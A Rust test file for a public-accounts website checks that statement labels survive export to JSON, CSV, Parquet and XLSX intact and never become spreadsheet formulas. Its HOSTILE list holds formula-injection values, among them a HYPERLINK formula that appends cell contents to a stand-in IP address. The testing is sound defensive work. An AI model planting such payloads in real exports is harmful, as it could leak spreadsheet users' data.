//! A label is the same text in every form for programs, and leads back to its lines, whatever it begins with.

use std::collections::BTreeSet;
use std::io::Cursor;

use crate::common::{header, send, statement};
use axum::http::Method;
use calamine::{Data, Reader, Xlsx};
use centime_analytics::Language;
use centime_render::{Locale, link};
use centime_server::Site;
use centime_warehouse::{DatabaseUrl, OpenMode, Warehouse};
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::record::Field;
use serde_json::Value;

/// What spreadsheets take for a formula, what they take for the mark of a text, and what XML or CSV could lose.
const HOSTILE: [&str; 14] = [
    "=1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Voir\")",
    "+33 autres charges",
    "-Reprises sur amortissements",
    "−Reprises",
    "@SOMME(A1)",
    "\tAchats",
    "\rAchats",
    " =2+2",
    "\u{feff}=3+3",
    "'=4+4",
    "_x003D_5+5",
    "-1234,56",
    "Achats; \"divers\", et\nautres",
];

/// A label as it is kept: a run reads control characters as spaces, and everything else as it was published.
fn kept(label: &str) -> String {
    label.replace(['\t', '\r', '\n'], " ")
}

/// The rows of a file by the names of its columns, each cell as its text.
type Rows = Vec<Vec<(String, String)>>;

async fn site() -> (tempfile::TempDir, Site) {
    let folder = tempfile::tempdir().unwrap();
    let url: DatabaseUrl = centime_test_database::fresh(folder.path()).parse().unwrap();
    let warehouse = Warehouse::open(&url, OpenMode::Write).await.unwrap();
    let mut rows: Vec<statement::Row> = Vec::new();
    for (label, centimes) in HOSTILE.into_iter().zip(100..) {
        rows.push(("CHARGES", label, label, centimes));
        rows.push(("PRODUITS", "PRODUITS", label, 10 * centimes));
    }
    statement::publish(&warehouse, &rows, &["2022", "2023"]).await;
    (folder, Site::new(warehouse))
}

async fn bytes(site: &Site, address: &str, accept: &str) -> Vec<u8> {
    let response = send(site, &Method::GET, address, &[("accept", accept)], "").await;
    assert_eq!(response.status(), 200, "{address}");
    let kind = header(&response, "content-type").to_owned();
    assert!(accept == "*/*" || kind.starts_with(accept), "{kind}");
    let body = axum::body::to_bytes(response.into_body(), usize::MAX).await;
    body.unwrap().to_vec()
}

fn csv_rows(bytes: &[u8]) -> Rows {
    let mut reader = csv::Reader::from_reader(bytes);
    let heads = reader.headers().unwrap().clone();
    let row = |row: csv::StringRecord| {
        let cells = heads.iter().zip(row.iter());
        cells
            .map(|(head, cell)| (head.to_owned(), cell.to_owned()))
            .collect()
    };
    reader.records().map(|found| row(found.unwrap())).collect()
}

fn json_rows(bytes: &[u8]) -> Rows {
    let whole: Value = serde_json::from_slice(bytes).unwrap();
    let rows = whole.get("data").unwrap_or(&whole).as_array().unwrap();
    let text = |value: &Value| match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        Value::Array(texts) => {
            let texts: Vec<&str> = texts.iter().filter_map(Value::as_str).collect();
            texts.join("; ")
        }
        other => other.to_string(),
    };
    rows.iter()
        .map(|row| {
            let cells = row.as_object().unwrap().iter();
            cells
                .map(|(name, value)| (name.clone(), text(value)))
                .collect()
        })
        .collect()
}

/// Only the texts; numbers are held against each other elsewhere.
fn xlsx_rows(bytes: &[u8]) -> Rows {
    let mut book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.is_empty(), "a cell is a formula");
    let sheet = book.worksheet_range(&name).unwrap();
    let mut rows = sheet.rows();
    let heads: Vec<String> = rows.next().unwrap().iter().map(Data::to_string).collect();
    rows.map(|row| {
        let texts = heads.iter().zip(row).filter_map(|(head, cell)| match cell {
            Data::String(text) => Some((head.clone(), text.clone())),
            _ => None,
        });
        texts.collect()
    })
    .collect()
}

fn parquet_rows(bytes: Vec<u8>) -> Rows {
    let reader = SerializedFileReader::new(axum::body::Bytes::from(bytes)).unwrap();
    let rows = reader.get_row_iter(None).unwrap();
    rows.map(|row| {
        let row = row.unwrap();
        let texts = row
            .get_column_iter()
            .filter_map(|(name, field)| match field {
                Field::Str(text) => Some((name.clone(), text.clone())),
                _ => None,
            });
        texts.collect()
    })
    .collect()
}

/// The values of some columns, row by row; a row without one of them has an empty text there.
fn texts(rows: &Rows, columns: &[&str]) -> Vec<Vec<String>> {
    let cell = |row: &Vec<(String, String)>, wanted: &str| {
        let found = row.iter().find(|(name, _)| name == wanted);
        found.map_or_else(String::new, |(_, text)| text.clone())
    };
    rows.iter()
        .map(|row| columns.iter().map(|column| cell(row, column)).collect())
        .collect()
}

#[tokio::test]
async fn a_label_is_the_same_text_in_every_form() {
    let (_folder, site) = site().await;
    let published = ["category", "label", "published_category", "published_label"];
    for (address, query, columns, whole) in [
        ("/lines", "", &published[..], true),
        ("/analyses/expense-by-category", "", &["category"][..], true),
        ("/dashboard/categories", "", &["category"], false),
        // By category: no line of these years changed.
        ("/dashboard/changes", "&basis=naive", &["category"], false),
        ("/dashboard/flow", "", &["category"], false),
        ("/dashboard/presence", "", &["category", "label"], false),
    ] {
        // A workbook has the headings of the page.
        let file = async |form: &str| {
            let address = format!("{address}.{form}?lang=en{query}");
            bytes(&site, &address, "*/*").await
        };
        let json = texts(&json_rows(&file("json").await), columns);
        assert!(!json.is_empty(), "{address}");
        let csv = texts(&csv_rows(&file("csv").await), columns);
        assert_eq!(csv, json, "{address}: CSV");
        let parquet = texts(&parquet_rows(file("parquet").await), columns);
        assert_eq!(parquet, json, "{address}: Parquet");
        let locale = Locale::of(Language::English);
        let headings: Vec<&str> = columns
            .iter()
            .map(|name| locale.term("column", name))
            .collect();
        let xlsx = texts(&xlsx_rows(&file("xlsx").await), &headings);
        assert_eq!(xlsx, json, "{address}: XLSX");
        let found: BTreeSet<&str> = json.iter().flatten().map(String::as_str).collect();
        for label in HOSTILE {
            let there = found.contains(kept(label).as_str());
            assert!(!whole || there, "{address}: {label:?}");
        }
    }
    for address in [
        "/api/v1/lines?limit=1000",
        "/api/v1/analyses/expense-by-category",
    ] {
        let columns = ["category", "label"];
        let json = json_rows(&bytes(&site, address, "application/json").await);
        let csv = csv_rows(&bytes(&site, address, "text/csv").await);
        assert_eq!(texts(&csv, &columns), texts(&json, &columns), "{address}");
        let json = texts(&json, &columns);
        let found: BTreeSet<&str> = json.iter().flatten().map(String::as_str).collect();
        assert!(
            HOSTILE
                .iter()
                .all(|label| found.contains(kept(label).as_str()))
        );
    }
}

#[tokio::test]
async fn a_label_of_a_file_leads_back_to_its_lines() {
    let (_folder, site) = site().await;
    let all = csv_rows(&bytes(&site, "/lines.csv", "*/*").await);
    let mut asked = BTreeSet::new();
    for row in texts(&all, &["category"]) {
        let [category] = &row[..] else { unreachable!() };
        if !asked.insert(category.clone()) {
            continue;
        }
        let of_category = |rows: &Rows| {
            let rows = texts(rows, &["category"]);
            rows.iter().filter(|row| row[0] == *category).count()
        };
        let wanted = of_category(&all);
        let to = |path: &str| link::to(path, &[("category", category.as_str())]);
        let csv = csv_rows(&bytes(&site, &to("/lines.csv"), "*/*").await);
        let json = json_rows(&bytes(&site, &to("/lines.json"), "*/*").await);
        let api = to("/api/v1/lines");
        let by_api = json_rows(&bytes(&site, &api, "application/json").await);
        for rows in [&csv, &json, &by_api] {
            assert_eq!((rows.len(), of_category(rows)), (wanted, wanted), "{api}");
        }
        // A search is for words, so it may find others, too.
        let found = link::to("/lines.csv", &[("q", category.as_str())]);
        let found = csv_rows(&bytes(&site, &found, "*/*").await);
        assert!(of_category(&found) == wanted, "{category:?}");
        for path in ["/lines", "/dashboard", "/embed/dashboard/categories"] {
            bytes(&site, &to(path), "text/html").await;
        }
        bytes(&site, &to("/dashboard/result.csv"), "*/*").await;
    }
    assert!(
        HOSTILE.iter().all(|label| asked.contains(&kept(label))),
        "{asked:?}"
    );
}
